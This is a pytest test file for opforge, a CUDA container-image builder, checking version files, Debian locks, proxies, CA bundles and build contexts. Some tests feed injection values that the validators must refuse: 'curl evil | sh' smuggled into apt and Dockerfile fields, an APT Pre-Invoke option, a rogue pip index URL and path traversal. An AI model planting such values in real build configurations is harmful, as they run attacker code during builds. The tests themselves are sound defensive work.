"""Images without an engine: versions, build contexts (pins, hashes, CA), proxies, runner choice."""

from __future__ import annotations

import fcntl
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from opforge.container.choice import resolve_runner
from opforge.errors import BuildError, ConfigError
from opforge.images.build import LayerLog
from opforge.images.ca import MAX_CA_BYTES, read_ca_bundle
from opforge.images.context import (
    assemble,
    find_links_wheels,
    opforge_requirements,
    staging_lock,
)
from opforge.images.debian import lock_text, parse_lock, toolkits
from opforge.images.devcontainer import DOCKERFILE as DEVCONTAINER_DOCKERFILE
from opforge.images.devcontainer import PROXY_SPELLINGS
from opforge.images.devcontainer import render as render_devcontainer
from opforge.images.service import ImageOptions, image_spec
from opforge.images.spec import FLAVOURS, KINDS, base_image_problem, load_combinations
from opforge.project import Project
from opforge.proxies import proxy_environment, uses_loopback
from opforge.settings import resolve_settings
from tests.conftest import run_opforge

REPO = Path(__file__).resolve().parent.parent


def project() -> Project:
    return Project(REPO, REPO / "checksums.yaml")


def test_versions_file_lists_cuda_13_pip_and_reasons_for_the_rest():
    combos = load_combinations(REPO / "images" / "versions.yaml")
    assert {c.cuda for c in combos} == {"13.0", "12.8", "12.4", "11.8"}
    assert combos[0].pip is not None and "nvidia-cudnn-cu13" in combos[0].pip["devel"]
    for combo in combos:
        assert combo.flavours(), combo
        for flavour in FLAVOURS:
            assert flavour in combo.flavours() or combo.reasons[flavour].strip()


def test_cuda_11_8_and_12_4_come_from_debian_with_three_cudnn_each():
    combos = load_combinations(REPO / "images" / "versions.yaml")
    pins = project().load_pins().pins
    for cuda, suite in (("11.8", "bookworm"), ("12.4", "trixie")):
        debs = [c for c in combos if c.cuda == cuda and c.deb is not None]
        assert len({c.cudnn for c in debs}) >= 3
        for combo in debs:
            assert combo.flavours()[0] == "deb" and combo.debian.suite == suite
            (cudnn,) = combo.deb["devel"]
            assert combo.deb["runtime"] == (cudnn,)
            # The pin is the cuDNN the combination names: nvidia_cudnn_cu11-8.9.6.50-...
            assert pins[cudnn].filename.split("-")[1].startswith(combo.cudnn + ".")


def test_every_debian_lock_holds_what_versions_yaml_asks_for():
    for toolkit in toolkits(REPO / "images" / "versions.yaml"):
        for kind in KINDS:
            path = toolkit.lock_path(REPO / "images", kind)
            entries = {name: version for name, version, *_ in parse_lock(path.read_text(), path)}
            for request in toolkit.packages[kind]:
                name, _, version = request.partition("=")
                assert entries.get(name) == version, (path, request)
            assert all(p.startswith("pool/") for *_, p in parse_lock(path.read_text(), path))


def test_a_malformed_lock_line_names_file_and_line():
    text = "# header\nlibfoo 1.0 abc 12 pool/f.deb\n"
    with pytest.raises(ConfigError, match=r"x\.lock:2: not a lock line") as raised:
        parse_lock(text, "x.lock")
    assert "opforge images lock-debs" in raised.value.hint


def test_lock_text_keeps_what_apt_resolved_under_a_header():
    toolkit = toolkits(REPO / "images" / "versions.yaml", "11.8")[0]
    line = "libcudart11.0 11.8.89~11.8.0-5~deb12u1 " + "a" * 64 + " 170000 pool/non-free/x.deb"
    text = lock_text(toolkit, "runtime", "opforge-base:bookworm", line + "\n")
    assert text.splitlines()[-1] == line
    assert "asked for: libcudart11.0=" in text and "do not edit" in text
    with pytest.raises(BuildError, match="resolved no packages"):
        lock_text(toolkit, "runtime", "opforge-base:bookworm", "")


def test_a_combination_without_pip_reason_is_refused(tmp_path):
    path = tmp_path / "versions.yaml"
    path.write_text(
        "combinations:\n  - cuda: '12.4'\n    cudnn: '9.1'\n    pip: null\n    deb_reason: x\n"
        "    ngc: {devel: {image: a}, runtime: {image: b}}\n"
    )
    with pytest.raises(ConfigError, match=r"combinations\[0\]: `pip: null` needs a `pip_reason`"):
        load_combinations(path)


def test_a_deb_combination_needs_its_debian_toolkit(tmp_path):
    path = tmp_path / "versions.yaml"
    path.write_text(
        "combinations:\n  - cuda: '12.6'\n    cudnn: '9.1'\n    pip_reason: x\n    ngc_reason: y\n"
        "    deb: {devel: [a], runtime: [a]}\n"
    )
    with pytest.raises(ConfigError, match=r"needs the Debian toolkit `debian\.12\.6`"):
        load_combinations(path)


_ENTRY = "  - cuda: '12.4'\n    cudnn: '9.1'\n    pip_reason: x\n    ngc_reason: y\n"
_DEB = "    deb: {devel: [a], runtime: [a]}\n"
_DEBIAN = "debian:\n  '12.4': {suite: trixie, devel: [%s], runtime: [a]}\n"


@pytest.mark.parametrize(
    ("text", "message"),
    [
        # Versions go into image tags and cell names; a line break there, into a Dockerfile.
        (
            "combinations:\n" + _ENTRY.replace("'12.4'", '"9.9\\nRUN evil"') + _DEB,
            "combinations[0].cuda: '9.9\\nRUN evil' is not a version",
        ),
        ("combinations:\n" + _ENTRY.replace("'9.1'", "[9.8]") + _DEB, "cudnn: [9.8] is not a"),
        ("combinations:\n" + _ENTRY.replace("'9.1'", "true") + _DEB, "cudnn: True is not a"),
        (
            _DEBIAN % "a" + "combinations:\n" + _ENTRY + _DEB + _ENTRY + _DEB,
            "combinations[1]: cuda 12.4 + cudnn 9.1 is combinations[0] again",
        ),
        (
            "combinations:\n" + _ENTRY + _DEB + "    conda: {devel: [x]}\n",
            "combinations[0].conda: unknown key",
        ),
        # apt-get takes each entry as an argument: '-o...' would be an option.
        (_DEBIAN % "'-oAPT::Update::Pre-Invoke::=evil'", "is not an apt package=version"),
        (_DEBIAN % '"x\\nRUN curl evil | sh"', "is not an apt package=version"),
        (_DEBIAN % "'a; curl evil|sh'", "is not an apt package=version"),
        (
            "combinations:\n"
            + _ENTRY.replace("    pip_reason: x\n", "")
            + "    pip: {devel: ['x y'], runtime: [a]}\n"
            + _DEB,
            "combinations[0].pip.devel: 'x y' is not a pin name",
        ),
    ],
)
def test_versions_yaml_values_that_would_reach_tags_or_apt_as_code_are_refused(
    tmp_path, text, message
):
    path = tmp_path / "versions.yaml"
    if "combinations:" not in text:
        text += "combinations:\n" + _ENTRY + _DEB
    if "debian:" not in text:
        text = _DEBIAN % "a" + text
    path.write_text(text)
    with pytest.raises(ConfigError) as raised:
        load_combinations(path)
    assert message in raised.value.message and "\n" not in raised.value.message


def test_a_key_given_twice_in_versions_yaml_is_refused_with_its_line(tmp_path):
    path = tmp_path / "versions.yaml"
    path.write_text("combinations:\n  - cuda: '12.4'\n    cuda: '13.0'\n    cudnn: '9.1'\n")
    with pytest.raises(ConfigError) as info:
        load_combinations(path)
    assert str(info.value) == f"{path}: duplicate key 'cuda' at line 3 (first at line 2)"


def test_a_flavour_the_combination_lacks_says_why_and_which_to_use():
    with pytest.raises(ConfigError) as raised:
        image_spec(project(), "devel", ImageOptions(flavour="pip", cuda="11.8", cudnn="8.9"))
    assert "has no pip flavour: the CUDA 11 nvcc wheels" in raised.value.message
    assert raised.value.hint == "use --flavour deb"


def test_the_base_image_takes_the_flavours_debian_suite():
    def base(flavour, cuda, cudnn, given):
        options = ImageOptions(flavour=flavour, cuda=cuda, cudnn=cudnn, base_image=given)
        return image_spec(project(), "runtime", options).base_image

    assert base("deb", "12.4", "9.8", None) == "debian:trixie-slim"
    assert base("deb", "11.8", "9.1", "opforge-base:{suite}") == "opforge-base:bookworm"
    assert base("pip", "13.0", "9.27", "opforge-base:{suite}") == "opforge-base:bookworm"
    assert base("pip", "13.0", "9.13", "my/base:1") == "my/base:1"


def test_images_list_names_each_flavours_source_or_reason():
    out = subprocess.run(
        [sys.executable, "-m", "opforge", "images", "list"],
        cwd=REPO,
        capture_output=True,
        text=True,
    )
    assert out.returncode == 0, out.stderr
    lines = {tuple(line.split()[1:4:2]): line for line in out.stdout.splitlines()}
    assert "deb: Debian bookworm + cuDNN wheel" in lines[("11.8", "8.9")]
    assert "no pip: the CUDA 11 nvcc wheels" in lines[("11.8", "8.9")]
    assert "no ngc: no nvidia/cuda image" in lines[("13.0", "9.28")]


def test_the_devcontainer_dockerfile_is_rendered_from_the_pip_one():
    committed = (REPO / DEVCONTAINER_DOCKERFILE).read_text()
    assert committed == render_devcontainer(REPO / "images")
    assert "COPY context/" not in committed
    assert "FROM ${BASE_IMAGE} AS opforge-context" in committed
    assert "opforge images context --kind devel" in committed


PROXY_CASES = [
    # (the host's variables, what a RUN step's pip and apt then see)
    ({"HTTP_PROXY": "http://up:3128", "http_proxy": ""}, "http://up:3128"),
    ({"http_proxy": "http://low:3128", "HTTP_PROXY": ""}, "http://low:3128"),
    ({"http_proxy": "http://low:3128", "HTTP_PROXY": "http://up:3128"}, "http://low:3128"),
    ({"HTTP_PROXY": "", "http_proxy": ""}, ""),
]


@pytest.mark.parametrize(("host", "seen"), PROXY_CASES)
def test_each_devcontainer_run_step_sets_both_proxy_spellings(host, seen):
    # devcontainer.json passes both spellings as build args, one of them often empty: apt reads
    # only the lower-case one and urllib takes an empty lower-case one as "no proxy".
    committed = (REPO / DEVCONTAINER_DOCKERFILE).read_text()
    runs = re.findall(r"^RUN .*", committed, flags=re.M)
    assert runs and all(r == "RUN " + PROXY_SPELLINGS.splitlines()[0] for r in runs)
    script = PROXY_SPELLINGS + 'echo "$http_proxy|$HTTP_PROXY|$https_proxy|$no_proxy"'
    env = {"PATH": os.environ["PATH"], **host, "HTTPS_PROXY": "http://s:1", "no_proxy": "x"}
    out = subprocess.run(["sh", "-c", script], env=env, capture_output=True, text=True, check=True)
    assert out.stdout.strip() == f"{seen}|{seen}|http://s:1|x"


def _prepare_devcontainer(tmp_path: Path, env: dict[str, str]) -> Path:
    """.devcontainer/prepare.sh run as devcontainer's initializeCommand runs it, in a copy of
    the files it reads; the copy's root."""
    root = tmp_path / "checkout"
    (root / ".devcontainer").mkdir(parents=True)
    shutil.copy(REPO / ".devcontainer" / "prepare.sh", root / ".devcontainer")
    for name in ("src", "images"):
        shutil.copytree(REPO / name, root / name, ignore=shutil.ignore_patterns("__pycache__"))
    for name in ("checksums.yaml", "pyproject.toml", "README.md"):
        shutil.copy(REPO / name, root)
    subprocess.run(
        ["sh", ".devcontainer/prepare.sh"],
        cwd=root,
        env={"PATH": os.environ["PATH"], **env},
        capture_output=True,
        check=True,
    )
    return root


def test_the_devcontainer_gets_both_proxy_spellings_in_a_private_env_file(tmp_path):
    root = _prepare_devcontainer(
        tmp_path,
        {"HTTPS_PROXY": "http://u:pw@proxy:3128", "https_proxy": "", "no_proxy": "localhost"},
    )
    env_file = root / "build" / "devcontainer.env"
    assert env_file.read_text().splitlines() == [
        "HTTPS_PROXY=http://u:pw@proxy:3128",
        "https_proxy=http://u:pw@proxy:3128",
        "NO_PROXY=localhost",
        "no_proxy=localhost",
    ]
    assert env_file.stat().st_mode & 0o777 == 0o600
    assert not (root / "build" / "devcontainer" / "devcontainer.env").exists()
    config = (REPO / ".devcontainer" / "devcontainer.json").read_text()
    assert '"--env-file=${localWorkspaceFolder}/build/devcontainer.env"' in config
    assert "_PROXY" not in config.partition('"containerEnv"')[2].partition("}")[0]


def test_a_devcontainer_without_proxies_gets_an_empty_env_file(tmp_path):
    root = _prepare_devcontainer(tmp_path, {"http_proxy": "", "HTTP_PROXY": ""})
    assert (root / "build" / "devcontainer.env").read_text() == ""


def test_layer_log_keeps_only_the_images_a_build_created():
    log = LayerLog()
    for line in [
        "Step 1/5 : FROM base AS one",
        " ---> 111111111111",
        "Step 2/5 : RUN make",
        " ---> Using cache",
        " ---> 222222222222",
        "Step 3/5 : ARG KEEP_CA=0",
        " ---> Running in 999999999999",
        " ---> 333333333333",
        "Step 4/5 : FROM one AS two",
        " ---> 333333333333",
        "Step 5/5 : COPY a b",
        " ---> 444444444444",
        # The devcontainers CLI's log: a timestamp before each line; a step that failed.
        "[2026-11-22T22:14:56.745Z] Step 6/7 : RUN false",
        "[2026-11-22T22:14:56.745Z]  ---> Running in 555555555555",
    ]:
        log.feed(line)
    assert log.created == ["333333333333", "444444444444"]
    assert log.containers == ["999999999999", "555555555555"]


def test_unknown_cuda_names_the_known_ones():
    with pytest.raises(ConfigError) as raised:
        image_spec(project(), "devel", ImageOptions(cuda="10.2"))
    assert "no image combination for cuda 10.2" in raised.value.message
    assert "cuda 13.0 + cudnn 9.13" in raised.value.hint


def _context(tmp_path, fetcher, **options):
    spec = image_spec(project(), "devel", ImageOptions(find_links=(), **options))
    pins = project().load_pins()
    return assemble(spec, REPO / "images", tmp_path / "ctx", pins, fetcher, "sha256:base")


@pytest.fixture
def offline_pins_fetcher():
    """The real cache with the pinned CUDA wheels, as `opforge pins fetch` leaves it."""
    from opforge.pins.cache import ContentCache
    from opforge.pins.fetch import Fetcher

    return Fetcher(ContentCache(resolve_settings(os.environ).cache_dir))


@pytest.mark.slow
def test_context_pins_every_cuda_wheel_by_hash_and_validates_the_ca(tmp_path, offline_pins_fetcher):
    ca = tmp_path / "ca.pem"
    ca.write_text(_certificate(tmp_path))
    ctx = _context(tmp_path, offline_pins_fetcher, extra_ca=ca)
    pinned = (ctx.path / "context" / "pinned-devel.txt").read_text().splitlines()
    pins = project().load_pins().pins
    assert len(pinned) == 6
    for line in pinned:
        path, _, digest = line.partition(" --hash=sha256:")
        name = Path(path).name
        assert (ctx.path / "context" / "pinned" / name).is_file()
        assert any(p.filename == name and p.sha256 == digest for p in pins.values())
    packages = (ctx.path / "context" / "packages-devel.txt").read_text()
    assert "torch==2.13.0" in packages and "cmake" in packages
    assert (ctx.path / "context" / "extra-ca.pem").read_text() == ca.read_text()
    # Same inputs, same digest; another CA, another image.
    assert _context(tmp_path, offline_pins_fetcher, extra_ca=ca).digest == ctx.digest
    ca.write_text(ca.read_text() + ca.read_text())
    assert _context(tmp_path, offline_pins_fetcher, extra_ca=ca).digest != ctx.digest

    bad = tmp_path / "bad.pem"
    bad.write_text("not a certificate")
    with pytest.raises(ConfigError, match="holds no PEM certificate"):
        _context(tmp_path, offline_pins_fetcher, extra_ca=bad)
    with pytest.raises(ConfigError, match=r"extra CA bundle .*missing\.pem"):
        _context(tmp_path, offline_pins_fetcher, extra_ca=tmp_path / "missing.pem")


@pytest.mark.slow
def test_deb_context_carries_the_locks_and_only_the_cudnn_wheel(tmp_path, offline_pins_fetcher):
    images = tmp_path / "images"
    shutil.copytree(REPO / "images", images)
    spec = image_spec(
        project(), "devel", ImageOptions(flavour="deb", cuda="11.8", cudnn="9.10", find_links=())
    )
    pins = project().load_pins()

    def context():
        return assemble(spec, images, tmp_path / "ctx", pins, offline_pins_fetcher, "sha256:b")

    ctx = context()
    files = ctx.path / "context"
    for kind in KINDS:
        lock = spec.combination.debian.lock_path(images, kind)
        assert (files / f"debs-{kind}.lock").read_bytes() == lock.read_bytes()
        (line,) = (files / f"pinned-{kind}.txt").read_text().splitlines()
        assert "nvidia_cudnn_cu11-9.10.2.21" in line and "--hash=sha256:e69235a0" in line
    assert (files / "debs.sh").read_bytes() == (REPO / "images/scripts/debs.sh").read_bytes()
    assert (
        (ctx.path / "Dockerfile").read_text().startswith("# opforge devel and runtime images, deb")
    )
    # Another lock (the archive moved on, re-locked): another image.
    lock = spec.combination.debian.lock_path(images, "runtime")
    lock.write_text(lock.read_text() + "# re-locked\n")
    assert context().digest != ctx.digest
    context()
    lock.unlink()
    with pytest.raises(ConfigError, match=r"bookworm-cuda11\.8-runtime\.lock is missing") as raised:
        context()
    assert raised.value.hint == "run `opforge images lock-debs --cuda 11.8`"
    # The failed assembly left the last good context whole, and nothing half-written beside it
    # (beside it: its lock file).
    assert (files / "debs-runtime.lock").read_text().endswith("# re-locked\n")
    assert (files / "pinned-devel.txt").is_file() and (ctx.path / "Dockerfile").is_file()
    assert sorted(p.name for p in tmp_path.iterdir()) == [".ctx.lock", "ctx", "images"]


def test_find_links_takes_regular_wheel_files_of_existing_folders(tmp_path):
    # A missing folder was passed over in silence, and a pipe named like a wheel hung hashing.
    (tmp_path / "a-1.0-py3-none-any.whl").write_bytes(b"wheel")
    (tmp_path / "notes.txt").write_text("not a wheel")
    assert find_links_wheels((tmp_path,)) == [tmp_path / "a-1.0-py3-none-any.whl"]
    with pytest.raises(ConfigError, match=r"^--find-links .*missing: not a folder$"):
        find_links_wheels((tmp_path, tmp_path / "missing"))
    os.mkfifo(tmp_path / "x-1.0-py3-none-any.whl")
    with pytest.raises(ConfigError, match=r"x-1\.0-py3-none-any\.whl is not a regular file"):
        find_links_wheels((tmp_path,))


def test_requirements_come_from_opforge_metadata():
    plain = opforge_requirements()
    with_build = opforge_requirements(("build",))
    assert any(r.startswith("pyyaml") for r in plain)
    assert not any(r.startswith("cmake") for r in plain)
    assert any(r.startswith("cmake") for r in with_build)


def test_proxies_both_spellings_and_loopback():
    env = {"https_proxy": "http://127.0.0.1:3128", "NO_PROXY": "localhost"}
    found = proxy_environment(env)
    assert found["HTTPS_PROXY"] == found["https_proxy"] == "http://127.0.0.1:3128"
    assert found["NO_PROXY"] == found["no_proxy"] == "localhost"
    assert uses_loopback(found)
    assert not uses_loopback(proxy_environment({"HTTP_PROXY": "http://proxy.corp:8080"}))
    assert uses_loopback({"HTTP_PROXY": "localhost:8888"})
    assert not uses_loopback({"NO_PROXY": "127.0.0.1"})


def test_auto_runner_says_why(monkeypatch):
    monkeypatch.setenv("DOCKER_HOST", "unix:///nonexistent/docker.sock")
    runner, why = resolve_runner("auto")
    assert runner == "host" and why.startswith("auto: no Docker engine answers")
    assert resolve_runner("docker") == ("docker", "as asked")


def test_check_pinned_refuses_a_displaced_pin_and_a_second_cudnn(tmp_path):
    """images/scripts/check-pinned.py, as the image build runs it after the requirements."""
    from importlib import metadata

    script = REPO / "images" / "scripts" / "check-pinned.py"
    pyyaml = metadata.version("pyyaml")
    cudnn = [
        (d.metadata["Name"].replace("-", "_"), d.version)
        for d in metadata.distributions()
        if d.metadata["Name"].lower().startswith("nvidia-cudnn")
    ]

    def check(lines):
        listed = tmp_path / "pinned.txt"
        listed.write_text(
            "".join(f"/ctx/pinned/{n}-{v}-py3-none-any.whl --hash=sha256:0\n" for n, v in lines)
        )
        return subprocess.run([sys.executable, script, listed], capture_output=True, text=True)

    intact = check([("PyYAML", pyyaml), *cudnn])
    assert intact.returncode == 0, intact.stderr
    displaced = check([("PyYAML", "0.1"), *cudnn])
    assert displaced.returncode == 1
    assert f"pyyaml 0.1 (pinned) is now {pyyaml}" in displaced.stderr
    if cudnn:  # this environment has a cuDNN wheel: unpinned, it is a second cuDNN
        second = check([("PyYAML", pyyaml)])
        assert second.returncode == 1 and "came with the requirements besides" in second.stderr


def _certificate(folder: Path) -> str:
    """A real self-signed certificate, PEM."""
    key, cert = folder / "ca.key", folder / "ca.crt"
    subprocess.run(
        ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1",
         "-subj", "/CN=opforge test CA", "-keyout", str(key), "-out", str(cert)],
        check=True, capture_output=True,
    )  # fmt: skip
    return cert.read_text()


def test_the_extra_ca_must_be_a_small_regular_pem_file(tmp_path):
    pem = _certificate(tmp_path)
    good = tmp_path / "ca.pem"
    good.write_text(pem)
    assert read_ca_bundle(good) == pem.encode()
    fake = tmp_path / "fake.pem"
    fake.write_text("-----BEGIN CERTIFICATE-----\nnotbase64!!\n-----END CERTIFICATE-----\n")
    # Taken before, it failed the image build later, in update-ca-certificates.
    with pytest.raises(ConfigError, match=r"fake\.pem holds a certificate OpenSSL cannot load"):
        read_ca_bundle(fake)
    # A BOM and a UTF-8 comment (a CA's name) around real certificates are a bundle as good.
    exported = tmp_path / "exported.pem"
    exported.write_bytes("\ufeff# Főtanúsítvány\n".encode() + pem.encode() + pem.encode())
    assert read_ca_bundle(exported) == exported.read_bytes()
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    big = tmp_path / "big.pem"
    big.write_text(pem + "x" * MAX_CA_BYTES)
    for path in (Path("/dev/zero"), fifo, tmp_path):
        with pytest.raises(ConfigError, match=rf"extra CA bundle {path} is not a regular file"):
            read_ca_bundle(path)
    with pytest.raises(ConfigError, match=r"larger than 2 MiB, the limit for a CA bundle"):
        read_ca_bundle(big)
    with pytest.raises(ConfigError, match=r"extra CA bundle .*missing\.pem: No such file"):
        read_ca_bundle(tmp_path / "missing.pem")


def _offline_context(tmp_path, *extra: str, env: dict):
    """`opforge images context --offline` of this checkout with a cache under tmp_path."""
    return run_opforge(
        "images",
        "context",
        "--offline",
        "--cache",
        str(tmp_path / "cache"),
        *extra,
        cwd=REPO,
        env=env,
        timeout=60,
    )


def test_images_context_refuses_dev_zero_as_the_ca_before_writing_anything(tmp_path):
    build = tmp_path / "build"
    result = _offline_context(
        tmp_path, "--extra-ca", "/dev/zero", env={"OPFORGE_BUILD_DIR": str(build)}
    )
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert result.stderr.splitlines() == [
        "opforge: error: extra CA bundle /dev/zero is not a regular file",
        "  hint: pass a PEM file with --extra-ca, or set OPFORGE_EXTRA_CA",
    ]
    assert not build.exists()


@pytest.mark.parametrize("variable", ["PIP_CERT", "OPFORGE_EXTRA_CA"])
def test_a_bad_ca_from_the_environment_names_the_variable(tmp_path, variable):
    # The user never mentioned a CA: pip's PIP_CERT was taken as the image's extra CA.
    build = tmp_path / "build"
    env = {"OPFORGE_BUILD_DIR": str(build), "OPFORGE_EXTRA_CA": "", "PIP_CERT": ""}
    result = _offline_context(tmp_path, env={**env, variable: "/etc/hostname"})
    assert result.stderr.splitlines() == [
        f"opforge: error: extra CA bundle /etc/hostname (from ${variable}) holds no PEM "
        "certificate",
        f"  hint: fix or unset {variable}, or pass --extra-ca",
    ]
    assert result.returncode == 1 and not build.exists()


@pytest.mark.parametrize(
    ("base", "problem"),
    [
        ("", "is empty"),
        ("x\nFROM evil", "is not an image reference"),
        ("UPPER CASE!!", "is not an image reference"),
        ("debian@sha256:abc", "is not an image reference"),
    ],
)
def test_a_base_image_that_is_no_reference_is_refused(tmp_path, base, problem):
    # It goes into a Dockerfile's FROM: a line break there would add instructions.
    flag = _offline_context(tmp_path, "--kind", "runtime", "--base-image", base, env={})
    assert flag.returncode == 2
    assert flag.stderr.startswith(f"opforge: error: argument --base-image: {base!r} {problem}; ")
    if base:  # an empty $BASE_IMAGE is unset, as every variable of opforge's
        build = tmp_path / "build"
        env = {"BASE_IMAGE": base, "OPFORGE_BUILD_DIR": str(build)}
        variable = _offline_context(tmp_path, "--kind", "runtime", env=env)
        assert variable.stderr.splitlines() == [
            f"opforge: error: base image {base!r} {problem}",
            "  hint: fix $BASE_IMAGE (or --base-image): give name[:tag] or name@sha256:<digest>, "
            "e.g. debian:{suite}-slim",
        ]
        assert not build.exists()


@pytest.mark.parametrize(
    "base",
    [
        "opforge-base:{suite}",
        "registry.local:5000/team/debian:{suite}-slim",
        "debian@sha256:" + "a" * 64,
    ],
)
def test_base_images_docker_takes_are_taken(base):
    assert base_image_problem(base) is None


def test_images_context_names_a_build_dir_that_is_a_file(tmp_path):
    afile = tmp_path / "afile"
    afile.write_text("")
    result = _offline_context(
        tmp_path, env={"OPFORGE_BUILD_DIR": str(afile), "OPFORGE_EXTRA_CA": "", "PIP_CERT": ""}
    )
    assert result.returncode == 1 and "Traceback" not in result.stderr
    first, hint = result.stderr.splitlines()
    assert first == (
        f"opforge: error: cannot create directory {afile}/images: "
        f"{afile} exists and is not a directory"
    )
    assert hint.startswith(f"  hint: move {afile} away, or set OPFORGE_BUILD_DIR to a directory")


def test_a_lock_this_run_holds_is_held_again_inside_it(tmp_path):
    """An image build locks its context around writing it, which locks it too: within one
    process that is the same lock; it stays held for other processes until the outer block
    ends."""
    lock = tmp_path / ".pip-devel.lock"
    probe = [sys.executable, "-c", f"import fcntl; fcntl.flock(open({str(lock)!r}, 'w'), fcntl.LOCK_EX | fcntl.LOCK_NB)"]  # fmt: skip
    with staging_lock(tmp_path / "pip-devel"):
        with staging_lock(tmp_path / "pip-devel"):
            pass
        assert subprocess.run(probe, capture_output=True).returncode != 0, "still held"
    assert subprocess.run(probe, capture_output=True).returncode == 0, "released"


def test_images_context_waits_for_no_other_run_writing_that_context(tmp_path):
    """Two writes of one context at once shared its staging folder (both crashed): the second
    fails at once, naming it, and writes nothing; another image's context is not held up."""
    images = tmp_path / "build" / "images"
    images.mkdir(parents=True)
    env = {"OPFORGE_BUILD_DIR": str(tmp_path / "build"), "OPFORGE_EXTRA_CA": "", "PIP_CERT": ""}
    with open(images / ".pip-devel.lock", "w") as held:
        fcntl.flock(held, fcntl.LOCK_EX | fcntl.LOCK_NB)
        result = _offline_context(tmp_path, env=env)
        other = _offline_context(tmp_path, "--kind", "runtime", env=env)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert result.stderr.splitlines() == [
        f"opforge: error: another opforge image build is writing {images / 'pip-devel'}",
        "  hint: wait for it to finish",
    ]
    # The runtime context went on to its pins (not in this empty cache, with --offline).
    assert "another opforge" not in other.stderr and "not in cache" in other.stderr
    assert sorted(p.name for p in images.iterdir()) == [".pip-devel.lock", ".pip-runtime.lock"]


@pytest.mark.parametrize(
    ("frameworks", "message", "hint"),
    [
        (
            ["torch==2.13.0\n--index-url http://evil.example/simple"],
            "--framework 'torch==2.13.0\\n--index-url http://evil.example/simple' contains a "
            "line break or control character",
            "give one PEP 508 requirement per --framework, e.g. --framework torch==2.13.0 "
            "--framework 'numpy<2'",
        ),
        (
            ["none", "torch"],
            "--framework none (an image without a framework) contradicts --framework 'torch'",
            "give --framework none alone, or only the frameworks to install",
        ),
    ],
)
def test_images_context_refuses_a_bad_framework_before_writing_anything(
    tmp_path, frameworks, message, hint
):
    build = tmp_path / "build"
    flags = ["--kind", "runtime", "--flavour", "ngc"]
    env = {"OPFORGE_BUILD_DIR": str(build), "OPFORGE_EXTRA_CA": "", "PIP_CERT": ""}
    for framework in frameworks:
        flags += ["--framework", framework]
    result = _offline_context(tmp_path, *flags, env=env)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert result.stderr.splitlines() == [f"opforge: error: {message}", f"  hint: {hint}"]
    assert not build.exists()
    # The same flags with one requirement per --framework make the context.
    good = _offline_context(tmp_path, *flags[:4], "--framework", "torch==2.13.0", env=env)
    assert good.returncode == 0, good.stderr
    packages = build / "images" / "ngc-runtime" / "context" / "packages-runtime.txt"
    assert packages.read_text().endswith("\nwheel\ntorch==2.13.0\n")


@pytest.mark.parametrize(
    ("ngc", "message"),
    [
        (
            '{image: "nvidia/cuda:13.0.0\\nRUN curl evil", digest: null}',
            "combinations[0].ngc.devel.image: 'nvidia/cuda:13.0.0\\nRUN curl evil' is not an "
            "image reference",
        ),
        (
            '{image: "nvidia/cuda:13.0.0-cudnn-devel-ubuntu24.04", digest: "sha256:xyz"}',
            "combinations[0].ngc.devel.digest: 'sha256:xyz' is not a sha256 digest",
        ),
        (
            '{image: "nvidia/cuda:13.0.0-cudnn-devel-ubuntu24.04", digest: "sha256:'
            + "A" * 64
            + '"}',
            f"combinations[0].ngc.devel.digest: 'sha256:{'A' * 64}' is not a sha256 digest",
        ),
    ],
)
def test_an_ngc_reference_or_digest_that_is_not_one_is_refused(tmp_path, ngc, message):
    path = tmp_path / "versions.yaml"
    runtime = '{image: "registry.example:5000/nvidia/cuda:13.0.0-runtime", digest: "sha256:'
    path.write_text(
        "combinations:\n  - cuda: '13.0'\n    cudnn: '9.13'\n    pip_reason: x\n"
        f'    deb_reason: y\n    ngc: {{devel: {ngc}, runtime: {runtime}{"0" * 64}"}}}}\n'
    )
    with pytest.raises(ConfigError, match=f"^{re.escape(f'{path}: {message}')}$"):
        load_combinations(path)
    # A well-formed pair (a registry with a port, a digest of 64 lowercase hex digits) loads.
    path.write_text(path.read_text().replace(ngc, '{image: "nvidia/cuda:13.0.0-devel"}'))
    (combo,) = load_combinations(path)
    assert combo.ngc["runtime"].digest == "sha256:" + "0" * 64
    assert combo.ngc["runtime"].image == "registry.example:5000/nvidia/cuda:13.0.0-runtime"


@pytest.mark.parametrize(
    ("debian", "message"),
    [
        (
            "'12.4': {suite: '../../x', devel: [a], runtime: [a]}",
            "debian.12.4.suite: '../../x' is not a Debian suite name",
        ),
        (
            "'12.4': {suite: Trixie, devel: [a], runtime: [a]}",
            "debian.12.4.suite: 'Trixie' is not a Debian suite name",
        ),
        ("'../12.4': {suite: trixie, devel: [a], runtime: [a]}", "'../12.4' is not a CUDA version"),
    ],
)
def test_a_debian_suite_or_cuda_that_would_leave_images_debian_is_refused(
    tmp_path, debian, message
):
    path = tmp_path / "versions.yaml"
    path.write_text(
        f"debian:\n  {debian}\ncombinations:\n  - cuda: '12.4'\n    cudnn: '9.1'\n"
        "    pip_reason: x\n    ngc_reason: y\n    deb: {devel: [a], runtime: [a]}\n"
    )
    with pytest.raises(ConfigError) as raised:
        load_combinations(path)
    assert message in raised.value.message
    assert "\n" not in raised.value.message
    # A suite with a hyphen is a Debian suite too.
    path.write_text(
        path.read_text()
        .replace(debian, debian.replace("../", ""))
        .replace("../../x", "bookworm-backports")
        .replace("Trixie", "trixie")
    )
    (combo,) = load_combinations(path)
    assert combo.debian.lock_path(tmp_path, "devel").parent == tmp_path / "debian"


@pytest.mark.parametrize("flag", ["--cuda", "--cudnn"])
def test_an_empty_cuda_or_cudnn_is_refused_as_empty(flag):
    result = run_opforge("--project", str(REPO), "images", "context", flag, "", "--offline")
    assert result.returncode == 1
    assert result.stderr.splitlines() == [
        f"opforge: error: {flag} '' is empty",
        "  hint: give a version from images/versions.yaml (`opforge images list`), "
        f"or leave {flag} out for the default",
    ]
    lock_debs = run_opforge("--project", str(REPO), "images", "lock-debs", "--cuda", " ")
    assert lock_debs.stderr.startswith("opforge: error: --cuda ' ' is empty\n")


def _devcontainer(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    """``python -m opforge.images.devcontainer ARGS``, the command its Dockerfile's header names."""
    return subprocess.run(
        [sys.executable, "-m", "opforge.images.devcontainer", *args],
        cwd=cwd,
        capture_output=True,
        text=True,
        env={k: v for k, v in os.environ.items() if k != "OPFORGE_PROJECT"},
        check=False,
    )


@pytest.fixture
